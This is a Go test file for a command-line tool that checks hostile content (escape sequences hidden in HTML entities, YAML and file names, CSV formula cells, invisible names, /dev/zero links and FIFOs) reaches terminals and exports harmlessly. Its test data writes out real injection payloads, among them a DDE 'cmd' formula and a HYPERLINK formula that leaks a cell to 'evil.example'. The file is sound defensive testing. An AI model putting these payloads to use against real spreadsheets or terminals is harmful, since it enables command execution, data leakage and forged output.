//go:build unix

package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"unicode/utf8"

	uv "github.com/charmbracelet/ultraviolet"
	"github.com/charmbracelet/x/ansi"
	"github.com/dutymap/dutymap/internal/termsafe"
)

// The hostile/ and resources/ cases of ../shared/cases, run against the
// built binary as their READMEs do: text from content files, file names
// and arguments reaches a terminal as text and colour only, and a pipe as
// plain text; legal but strange files are reported, not hung on or read
// without end. The inputs are copied here so the tests run on a clean
// clone.

// caseFolder writes a content folder of files (name → text).
func caseFolder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

type piped struct {
	code     int
	out, err string
}

// runPiped runs the binary in dir with output to pipes.
func runPiped(t *testing.T, dir string, args ...string) piped {
	t.Helper()
	cmd := exec.Command(binary, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "LANG=en_US.UTF-8", "LC_ALL=", "NO_COLOR=", "DUTYMAP_CONTENT=")
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	code := exitCode(t, cmd.Run())
	return piped{code, out.String(), errb.String()}
}

// onTerminal runs the binary in dir on a pty and returns every byte it
// wrote there, with the pty's own "\r\n" for "\n" undone, and without
// the question `show --theme auto` asks the terminal before the page (its
// background colour, OSC 11, then DA1): the program's own query, not text.
func onTerminal(t *testing.T, dir string, args ...string) (string, int) {
	t.Helper()
	return onTerminalEnv(t, dir, nil, args...)
}

// onTerminalEnv is onTerminal with env added to the environment.
func onTerminalEnv(t *testing.T, dir string, env []string, args ...string) (string, int) {
	t.Helper()
	s := startCommand(t, 80, 40, func(c *exec.Cmd) { c.Dir = dir; c.Env = append(append(c.Env, "COLUMNS=80"), env...) }, binary, args...)
	code := s.exit()
	s.mu.Lock()
	defer s.mu.Unlock()
	raw := strings.ReplaceAll(string(s.raw), "\r\n", "\n")
	return strings.ReplaceAll(raw, ansi.RequestBackgroundColor+ansi.RequestPrimaryDeviceAttributes, ""), code
}

func assertText(t *testing.T, what, s string, sgr bool) {
	t.Helper()
	if v := termsafe.Check(s, sgr); v != "" {
		t.Errorf("%s: %s\n%q", what, v, s)
	}
	if !utf8.ValidString(s) {
		t.Errorf("%s: invalid UTF-8", what)
	}
}

var own = []string{"--builtin=false", "--content", "."}

func ownArgs(args ...string) []string { return append(append([]string{}, own...), args...) }

// hostile/entity-csi: entities that Glamour decodes into ESC [>4;2m
// (modifyOtherKeys), ESC [?4m and ESC [8m reached the terminal.
func TestCaseEntityCSI(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/x.md": "---\nid: x\nname: X dept\n---\n\n" +
		"Body with &#27;[>4;2m modifyOtherKeys and &#27;[?4m query and &#27;[8mHIDDEN&#27;[28m and R&amp;D.\n\n" +
		"## S {#s}\n\n- Set &#27;[>4;2mprices\n- Hide &#27;[8msecret&#27;[0m text\n- Query &#27;[?4m keys\n- R&amp;D and &lt;b&gt; and &copy;\n"})
	for _, ref := range []string{"x/s", "x", "x/s/1"} {
		raw, code := onTerminal(t, dir, ownArgs("show", ref)...)
		if code != 0 {
			t.Fatalf("show %s: exit %d\n%s", ref, code, raw)
		}
		assertText(t, "show "+ref+" on a terminal", raw, true)
		if strings.Contains(raw, "\x1b[8m") {
			t.Errorf("show %s: content concealed its own text", ref)
		}
	}
	raw, _ := onTerminal(t, dir, ownArgs("show", "x/s")...)
	if !strings.Contains(raw, "prices") || !strings.Contains(raw, "secret") {
		t.Errorf("the duties' text was lost:\n%s", raw)
	}
}

// hostile15 #2: a character reference to ESC spelt as Glamour's decoder
// (Go's html.UnescapeString) reads it but CommonMark does not — without
// its ";", with leading zeros, past CommonMark's digit limits, wrapping
// around 32 bits — put the content's own SGR on the terminal (conceal,
// blink, colours), also under NO_COLOR. Every such reference, in every
// place Markdown or a name is shown, now reads as if it were not there:
// the bytes written are those of the same content without them.
func TestEntityControlsInEverySpellingStayOut(t *testing.T) {
	const page = "---\nid: a\nname: \"Alpha &#x1b&#x5b;8mN1\"\n---\n" +
		"P1 &#x1b&#x5b;8mHIDDEN1 &#27[5mBLINK2 &#0027[7mINV3 &#X1B[31mRED4 &#x00001b;[32mGRN5 &#4294967323[33mYEL6 &#x9b;34mBLU7\n\n" +
		"## Work &#x1b[8mH8 {#work}\n\n" +
		"| Col &#27[8mT9 | B |\n|---|---|\n| `code &#x1b[8mC10` | [link &#27[8mL11](https://e.com/&#27[8m) |\n\n" +
		"- Do it &#x1b[8mD12.\n\n  Description &#27[8mE13 and **bold &#x1b[5mB14**.\n"
	// The spellings, longest first, as the page above writes them.
	without := strings.NewReplacer("&#4294967323", "", "&#x00001b;", "", "&#0027", "", "&#x9b;", "", "&#x1b", "", "&#X1B", "", "&#27", "")
	withRefs := caseFolder(t, map[string]string{"en/a.md": page})
	plain := caseFolder(t, map[string]string{"en/a.md": without.Replace(page)})

	for _, env := range [][]string{nil, {"NO_COLOR=1"}} {
		for _, ref := range []string{"a", "a/work/1"} {
			got, code := onTerminalEnv(t, withRefs, env, ownArgs("show", ref, "--width", "100")...)
			want, _ := onTerminalEnv(t, plain, env, ownArgs("show", ref, "--width", "100")...)
			if code != 0 || got != want {
				t.Errorf("show %s %v on a terminal: exit %d, the page differs from the same page without the references:\n%q\nwant\n%q", ref, env, code, got, want)
			}
		}
	}
	raw, _ := onTerminal(t, withRefs, ownArgs("show", "a")...)
	if screen := stripSGR(raw); !strings.Contains(screen, "P1 [8mHIDDEN1 [5mBLINK2") {
		t.Errorf("the text after the references was lost:\n%s", screen)
	}
	for _, args := range [][]string{{"show", "a"}, {"export", "--format", "md"}, {"search", "D12"}} {
		got, want := runPiped(t, withRefs, ownArgs(args...)...), runPiped(t, plain, ownArgs(args...)...)
		if got.code != want.code || got.out+got.err != want.out+want.err {
			t.Errorf("%v on a pipe: exit %d\n%s%s\nwant exit %d\n%s%s", args, got.code, got.out, got.err, want.code, want.out, want.err)
		}
	}
	if r := runPiped(t, withRefs, ownArgs("validate")...); r.code != 0 ||
		!strings.Contains(r.out+r.err, "a.md:5: note: the line spells control characters as character references (&#x1b, &#27, &#0027, &#X1B, &#x00001b;, &#4294967323)") {
		t.Errorf("validate: exit %d, no note on the references:\n%s%s", r.code, r.out, r.err)
	}

	// The explorer's page: no cell concealed or blinking, the text shown.
	for _, env := range []string{"NO_COLOR=", "NO_COLOR=1"} {
		s := startCommand(t, 120, 40, func(c *exec.Cmd) { c.Dir = withRefs; c.Env = append(c.Env, env) }, binary, ownArgs("--lang", "en")...)
		s.waitText("BLU7")
		styled := 0
		s.mu.Lock()
		for y := range s.term.Height() {
			for x := range s.term.Width() {
				if cell := s.term.CellAt(x, y); cell != nil && cell.Style.Attrs&(uv.AttrConceal|uv.AttrBlink) != 0 {
					styled++
				}
			}
		}
		s.mu.Unlock()
		if scr := s.screen(); styled > 0 || !strings.Contains(scr, "P1 [8mHIDDEN1 [5mBLINK2") {
			t.Errorf("%s: %d cells of the explorer concealed or blinking (content set their attributes), or the text after the references lost:\n%s", env, styled, scr)
		}
		s.send("q")
		if code := s.exit(); code != 0 {
			t.Errorf("%s: exit %d", env, code)
		}
	}
}

// hostile/entity-amp: the tree, search and export showed "R&amp;D", the
// page "R&D". Entities now read the same everywhere: decoded once.
func TestCaseEntityAmp(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/x.md": "---\nid: amp\nname: Amp dept\n---\n\n## S {#s}\n\n- R&amp;D and &lt;b&gt; and &copy;\n"})
	const want = "R&D and <b> and ©"
	if r := runPiped(t, dir, ownArgs("search", "R&D")...); r.code != 0 || !strings.Contains(r.out, "Amp dept › S › "+want) {
		t.Errorf("search: exit %d\n%s%s", r.code, r.out, r.err)
	}
	if r := runPiped(t, dir, ownArgs("search", "amp")...); strings.Contains(r.out, "&amp;") || strings.Contains(r.out, "&lt;") {
		t.Errorf("search shows entities raw:\n%s", r.out)
	}
	r := runPiped(t, dir, ownArgs("export", "--format", "csv")...)
	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
	if err != nil || len(rows) != 4 || rows[3][slices.Index(rows[0], "duty_en")] != want {
		t.Errorf("export: %q (%v)", rows, err)
	}
	raw, _ := onTerminal(t, dir, ownArgs("show", "amp/s/1")...)
	if screen := stripSGR(raw); !strings.Contains(screen, want) {
		t.Errorf("the page does not read %q:\n%s", want, screen)
	}
}

func stripSGR(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == 0x1b && i+1 < len(s) && s[i+1] == '[' {
			j := i + 2
			for j < len(s) && (s[j] == ';' || s[j] == ':' || (s[j] >= '0' && s[j] <= '9')) {
				j++
			}
			i = j
			continue
		}
		if s[i] != '\r' {
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// hostile/binary-tag-c1: !!binary values decoded to raw 8-bit C1 bytes
// (0x9b CSI, 0x9d OSC) and invalid UTF-8, printed by show and export.
func TestCaseBinaryTagC1(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/b.md": "---\nid: bin8\nname: !!binary WJsySp01MjtjO1NFRkRTMFZFnFk=\naliases: [!!binary /2ZvbyCA/w==]\n---\n\n## S {#s}\n\n- duty\n"})
	for _, args := range [][]string{{"show", "bin8"}, {"export", "--format", "csv"}, {"export", "--format", "md"}, {"search", "duty"}} {
		r := runPiped(t, dir, ownArgs(args...)...)
		assertText(t, strings.Join(args, " ")+" piped", r.out+r.err, false)
	}
	raw, _ := onTerminal(t, dir, ownArgs("show", "bin8")...)
	assertText(t, "show bin8 on a terminal", raw, true)
}

// hostile/yaml-error-echo: a YAML escape decoded to ESC c ESC [2J
// (terminal reset, clear screen) was echoed by validate's error.
func TestCaseYAMLErrorEcho(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/e.md": "---\nid: yt\nname: y\norder: \"\\ec\\e[2J\"\n---\n\n## S {#s}\n- d\n"})
	r := runPiped(t, dir, "validate", ".")
	if r.code != 1 || !strings.Contains(r.out, "en/e.md:4: order: ") || !strings.Contains(r.out, "is not a whole number") {
		t.Errorf("exit %d\n%s", r.code, r.out)
	}
	assertText(t, "validate piped", r.out+r.err, false)
	raw, _ := onTerminal(t, dir, "validate", ".")
	assertText(t, "validate on a terminal", raw, true)
}

// hostile/filename-escapes: file and folder names carrying OSC 52
// (clipboard), OSC 2 (title) and a newline that forged a line "ok: 99
// departments" in validate's report.
func TestCaseFilenameEscapes(t *testing.T) {
	dir := caseFolder(t, map[string]string{
		"en/\x1b]52;c;RklMRU5BTUU=\a\x1b]2;OWNED\ax.md": "no front matter\n",
		"en/evil\nok: 99 departments, 0 topics\n.md":    "---\nid: BAD ID\nname: x\n---\n",
		"en/dir\x1b]52;c;RElS\a/f.md":                   "---\nid: ok\nname: ok\n---\n- a\n",
	})
	r := runPiped(t, dir, "validate", dir)
	if r.code != 1 {
		t.Errorf("exit %d", r.code)
	}
	assertText(t, "validate piped", r.out+r.err, false)
	for _, line := range strings.Split(r.out, "\n") {
		if strings.HasPrefix(line, "ok:") {
			t.Errorf("forged line %q in:\n%s", line, r.out)
		}
	}
	raw, _ := onTerminal(t, dir, "validate", dir)
	assertText(t, "validate on a terminal", raw, true)
	if strings.Contains(raw, "OWNED\a") || strings.Contains(raw, "]52;") && !strings.Contains(raw, `\e]52;`) {
		t.Errorf("a file name acted on the terminal:\n%q", raw)
	}
}

// hostile/csv-formula: cells beginning with =, +, - or @ were formulas in
// a spreadsheet.
func TestCaseCSVFormula(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/c.md": "---\nid: csvinj\nname: \"=cmd|'/C calc'!A0\"\n---\n\n## S {#s}\n\n" +
		"- =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")\n- +1+2\n- @SUM(1)\n- -2+3\n"})
	r := runPiped(t, dir, ownArgs("export", "--format", "csv")...)
	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
	if err != nil || len(rows) != 7 {
		t.Fatalf("%v:\n%s", err, r.out)
	}
	for _, row := range rows[1:] {
		for _, cell := range row[1:] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("formula cell %q", cell)
			}
		}
	}
	name, duty := slices.Index(rows[0], "department_en"), slices.Index(rows[0], "duty_en")
	if rows[1][name] != "'=cmd|'/C calc'!A0" || rows[6][duty] != "'-2+3" {
		t.Errorf("cells not neutralised as documented: %q", rows)
	}
}

// hostile/invisible-name: a department named only with zero-width
// characters passed validation and showed as a row with no name.
func TestCaseInvisibleName(t *testing.T) {
	dir := caseFolder(t, map[string]string{"en/inv.md": "---\nid: invisible\nname: \"\\u200b\\u200c\\u2060\"\n---\n\n## S {#s}\n\n- Hidden dept duty\n"})
	r := runPiped(t, dir, ownArgs("validate")...)
	if r.code != 1 || !strings.Contains(r.out, "en/inv.md:3: the name is invisible") || !strings.Contains(r.out, "fix: ") {
		t.Errorf("exit %d\n%s%s", r.code, r.out, r.err)
	}
}

// resources/devzero-content: a content file or sources.yaml linked to
// /dev/zero was read until memory ran out; Stat says 0 bytes.
func TestCaseDevZeroContent(t *testing.T) {
	dir := caseFolder(t, map[string]string{"src/en/a.md": "---\nid: a\nname: A\n---\n## S {#s}\n- d\n"})
	if err := os.MkdirAll(filepath.Join(dir, "md", "en"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, link := range []string{"md/en/x.md", "src/sources.yaml"} {
		if err := os.Symlink("/dev/zero", filepath.Join(dir, link)); err != nil {
			t.Skip(err)
		}
	}
	for _, sub := range []string{"md", "src"} {
		r := runPiped(t, dir, "validate", sub)
		if r.code != 1 || !strings.Contains(r.out, "is a symbolic link to /dev/zero, outside the content folder") {
			t.Errorf("validate %s: exit %d\n%s%s", sub, r.code, r.out, r.err)
		}
	}
}

// resources/fifo-content: a named pipe as a content file or sources.yaml
// hung validate until it was killed.
func TestCaseFIFOContent(t *testing.T) {
	dir := caseFolder(t, map[string]string{"src/en/a.md": "---\nid: a\nname: A\n---\n## S {#s}\n- d\n"})
	if err := os.MkdirAll(filepath.Join(dir, "en"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"en/x.md", "src/sources.yaml"} {
		if err := syscall.Mkfifo(filepath.Join(dir, p), 0o644); err != nil {
			t.Skip(err)
		}
	}
	for _, sub := range []string{".", "src"} {
		r := runPiped(t, dir, "validate", sub)
		if r.code != 1 || !strings.Contains(r.out, "is a named pipe (FIFO), not a regular file") {
			t.Errorf("validate %s: exit %d\n%s%s", sub, r.code, r.out, r.err)
		}
	}
}
